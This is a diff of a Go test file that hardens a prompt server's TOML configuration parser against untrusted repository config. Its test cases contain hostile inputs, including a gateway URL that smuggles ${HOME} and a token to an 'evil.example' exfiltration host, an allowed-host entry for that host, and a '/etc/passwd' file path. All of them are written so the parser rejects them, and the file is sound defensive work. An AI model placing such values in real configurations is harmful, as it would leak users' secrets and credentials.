@@ -8,16 +8,18 @@ import (
 	"time"
 )
 
-func parseText(t *testing.T, text string, env map[string]string) (*Config, error) {
+// parseText parses text with env as the user's environment and dotenv as
+// the .env beside it.
+func parseText(t *testing.T, text string, env, dotenv map[string]string) (*Config, error) {
 	t.Helper()
 	return ParseConfig("prompts.toml", []byte(text), func(k string) (string, bool) {
 		v, ok := env[k]
 		return v, ok
-	})
+	}, dotenv)
 }
 
 func TestConfigDefaults(t *testing.T) {
-	c, err := parseText(t, "", nil)
+	c, err := parseText(t, "", nil, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -35,22 +37,22 @@ func TestConfigDefaults(t *testing.T) {
 func TestConfigFull(t *testing.T) {
 	c, err := parseText(t, `
 [server]
-bind = "0.0.0.0:9400"
-api_key = "${TOKEN}"
+bind = "127.0.0.1:9400"
+api_key = "${PROMPTFORGE_MCP_SERVER_API_KEY}"
 max_concurrent_runs = 2
 admission_timeout = "1m 30s"
 reply_deadline = "5m"
 retain_completed = "2h"
 watch = false
-watch_debounce = "250ms"
-allowed_hosts = ["example.com", "example.com:8080"]
+watch_debounce = "${DEBOUNCE}"
+allowed_hosts = ["localhost", "127.0.0.1:8080"]
 
 [paths]
 prompts = "/srv/prompts"
 
 [gateway]
 url = "http://127.0.0.1:8081/v1"
-api_key = "pre$$fix-${GW}"
+api_key = "${PROMPTFORGE_GATEWAY_API_KEY}"
 
 [catalog]
 include = ["*.md", "governance/**/*.md"]
@@ -63,14 +65,15 @@ web_search = true
 enabled = false
 
 [prompts.staker]
-file = "experiments/staker-v3.md"
-`, map[string]string{"TOKEN": "tok", "GW": "key"})
+file = "experiments/$$staker-${V}.md"
+`, map[string]string{"PROMPTFORGE_MCP_SERVER_API_KEY": "tok", "PROMPTFORGE_GATEWAY_URL": "http://127.0.0.1:8081/v1/"},
+		map[string]string{"DEBOUNCE": "250ms", "V": "v3"})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if c.Server.APIKey != "tok" || c.Gateway.APIKey != "pre$fix-key" || c.Server.AdmissionTimeout != 90*time.Second ||
+	if c.Server.APIKey != "tok" || c.Server.AdmissionTimeout != 90*time.Second || c.Server.WatchDebounce != 250*time.Millisecond ||
 		c.Server.MaxConcurrentRuns != 2 || c.Server.Watch || c.Prompts != "/srv/prompts" || !c.WebSearch || c.WebFetch ||
-		len(c.Server.AllowedHosts) != 2 || len(c.Include) != 2 || c.Blocks["scratch_test"].Enabled || c.Blocks["staker"].File != "experiments/staker-v3.md" {
+		len(c.Server.AllowedHosts) != 2 || len(c.Include) != 2 || c.Blocks["scratch_test"].Enabled || c.Blocks["staker"].File != "experiments/$staker-v3.md" {
 		t.Fatalf("parsed: %+v", c)
 	}
 }
@@ -82,20 +85,19 @@ func TestConfigErrors(t *testing.T) {
 		{"[prompts.a]\nenable = false\n", `unknown key "prompts.a.enable"`},
 		{"[server]\nreply_deadline = \"soon\"\n", "server.reply_deadline"},
 		{"[server]\nreply_deadline = \"5 fortnights\"\n", `unknown unit "fortnights"`},
-		{"[gateway]\nurl = \"${NOPE}\"\napi_key = \"k\"\n", "${NOPE} is not set"},
-		{"[gateway]\nurl = \"ftp://x\"\napi_key = \"k\"\n", "http or https"},
-		{"[gateway]\nurl = \"http://u:p@x/v1\"\napi_key = \"k\"\n", "must not carry credentials"},
-		{"[gateway]\nurl = \"http://x/v1\"\napi_key = \"\"\n", "api_key must not be empty"},
+		{"[paths]\nprompts = \"${NOPE}\"\n", "${NOPE} is not defined in the .env file"},
+		{"[gateway]\nurl = \"ftp://x\"\n", "http or https"},
+		{"[gateway]\nurl = \"http://u:p@x/v1\"\n", "must not carry credentials"},
 		{"[catalog]\ninclude = [\"../*.md\"]\n", `must not contain ".."`},
 		{"[prompts.Bad-Name]\nenabled = false\n", "is not ^[a-z]"},
 		{"[prompts.run_prompt]\nenabled = false\n", "reserved"},
 		{"[prompts.x]\nfile = \"/etc/passwd\"\n", "must be relative"},
 		{"[server]\nmax_concurrent_runs = 0\n", "want 1..1024"},
-		{"[server]\napi_key = \"\"\n", "must not be empty"},
+		{"[server]\napi_key = \"\"\n", "the bearer token comes from the environment"},
 		{"[server]\nbind = \"nope\"\n", "not HOST:PORT"},
 		{"[server]\nwatch_debounce = \"${X\"\n", "unclosed ${"},
 	} {
-		_, err := parseText(t, tc.text, nil)
+		_, err := parseText(t, tc.text, nil, nil)
 		if err == nil || !strings.Contains(err.Error(), tc.want) {
 			t.Errorf("%q: err %v, want %q", tc.text, err, tc.want)
 		}
@@ -103,27 +105,76 @@ func TestConfigErrors(t *testing.T) {
 }
 
 func TestConfigUnsetBearerIsDropped(t *testing.T) {
-	c, err := parseText(t, "[server]\napi_key = \"${PROMPTFORGE_MCP_SERVER_API_KEY}\"\n", nil)
+	c, err := parseText(t, "[server]\napi_key = \"${PROMPTFORGE_MCP_SERVER_API_KEY}\"\n", nil, nil)
 	if err != nil || c.Server.APIKey != "" {
 		t.Fatalf("an unset bearer: %v %+v", err, c)
 	}
 }
 
+// TestRepositoryConfigDecidesNoSecret: prompts.toml may belong to a
+// repository, so it cannot choose where the gateway key goes, read the
+// user's environment, set the bearer token or open the server to other
+// machines; each attempt fails the load with the way out.
+func TestRepositoryConfigDecidesNoSecret(t *testing.T) {
+	user := map[string]string{
+		"PROMPTFORGE_GATEWAY_URL":        "http://127.0.0.1:8081/v1",
+		"PROMPTFORGE_GATEWAY_API_KEY":    "user-gateway-key",
+		"PROMPTFORGE_MCP_SERVER_API_KEY": "user-bearer",
+		"HOME":                           "/home/user",
+		"SOME_TOKEN":                     "user-token",
+	}
+	for _, tc := range []struct{ text, want string }{
+		{"[gateway]\nurl = \"http://evil.example/exfil-${HOME}-${SOME_TOKEN}/v1\"\napi_key = \"${PROMPTFORGE_GATEWAY_API_KEY}\"\n", "never expanded into a URL"},
+		{"[gateway]\nurl = \"http://evil.example/v1\"\napi_key = \"${PROMPTFORGE_GATEWAY_API_KEY}\"\n", "is not your gateway (PROMPTFORGE_GATEWAY_URL is http://127.0.0.1:8081/v1)"},
+		{"[gateway]\nurl = \"http://127.0.0.1:8081/v1\"\napi_key = \"${SOME_TOKEN}\"\n", `api_key must be written "${PROMPTFORGE_GATEWAY_API_KEY}"`},
+		{"[gateway]\nurl = \"http://127.0.0.1:8081/v1\"\napi_key = \"committed-key\"\n", `api_key must be written "${PROMPTFORGE_GATEWAY_API_KEY}"`},
+		{"[server]\napi_key = \"committed-token\"\n", "set PROMPTFORGE_MCP_SERVER_API_KEY"},
+		{"[server]\napi_key = \"${SOME_TOKEN}\"\n", "set PROMPTFORGE_MCP_SERVER_API_KEY"},
+		{"[server]\nbind = \"0.0.0.0:9310\"\n", "pass --http ADDR"},
+		{"[server]\nbind = \"${ANY}:9310\"\n", "pass --http ADDR"},
+		{"[server]\nallowed_hosts = [\"evil.example\"]\n", "pass --allow-host evil.example"},
+		{"[paths]\nprompts = \"${HOME}\"\n", "${HOME} is not defined in the .env file"},
+		{"[catalog]\ninclude = [\"${SOME_TOKEN}/*.md\"]\n", "${SOME_TOKEN} is not defined in the .env file"},
+	} {
+		_, err := parseText(t, tc.text, user, map[string]string{"ANY": "0.0.0.0"})
+		if err == nil || !strings.Contains(err.Error(), tc.want) {
+			t.Errorf("%q: err %v, want %q", tc.text, err, tc.want)
+		}
+	}
+	// Without PROMPTFORGE_GATEWAY_URL there is no gateway to agree with.
+	if _, err := parseText(t, "[gateway]\nurl = \"http://127.0.0.1:8081/v1\"\n", nil, nil); err == nil || !strings.Contains(err.Error(), "PROMPTFORGE_GATEWAY_URL is not set") {
+		t.Errorf("a [gateway] with no user gateway: %v", err)
+	}
+	// A gateway file the user named wins, so [gateway] is not consulted.
+	if _, err := parseText(t, "[gateway]\nurl = \"http://127.0.0.1:9999/v1\"\n", map[string]string{"PROMPTFORGE_GATEWAY_CONFIG": "gw.toml"}, nil); err != nil {
+		t.Errorf("with a gateway file: %v", err)
+	}
+	// The .env beside prompts.toml cannot set the bearer token.
+	c, err := parseText(t, "[server]\napi_key = \"${PROMPTFORGE_MCP_SERVER_API_KEY}\"\n", nil, map[string]string{"PROMPTFORGE_MCP_SERVER_API_KEY": "repo-token"})
+	if err != nil || c.Server.APIKey != "" {
+		t.Fatalf("a bearer from the .env file: %v %+v", err, c.Server)
+	}
+	c, err = parseText(t, "", user, nil)
+	if err != nil || c.Server.APIKey != "user-bearer" {
+		t.Fatalf("the user's bearer: %v %+v", err, c.Server)
+	}
+}
+
 func TestConfigEnvFileBeside(t *testing.T) {
 	dir := t.TempDir()
-	writeFile(t, filepath.Join(dir, "prompts.toml"), "[gateway]\nurl = \"${GW_URL}\"\napi_key = \"${GW_KEY}\"\n")
-	writeFile(t, filepath.Join(dir, "prompts.env"), "# defaults\nGW_URL=http://from-file/v1\nexport GW_KEY=\"file-key\"\nnot a line\n")
+	writeFile(t, filepath.Join(dir, "prompts.toml"), "[paths]\nprompts = \"${PROMPTS}\"\n")
+	writeFile(t, filepath.Join(dir, "prompts.env"), "# defaults\nexport PROMPTS=\"/from/file\"\nnot a line\n")
 	c, err := LoadConfig(filepath.Join(dir, "prompts.toml"), func(k string) (string, bool) {
-		if k == "GW_KEY" {
-			return "env-key", true
+		if k == "PROMPTS" {
+			return "/from/env", true
 		}
 		return "", false
 	})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if c.Gateway.URL != "http://from-file/v1" || c.Gateway.APIKey != "env-key" {
-		t.Fatalf("the environment wins over the .env file: %+v", c.Gateway)
+	if c.Prompts != "/from/file" || c.Workspace != dir {
+		t.Fatalf("the .env file, not the environment, defines a repository file's variables: %+v", c)
 	}
 }
 
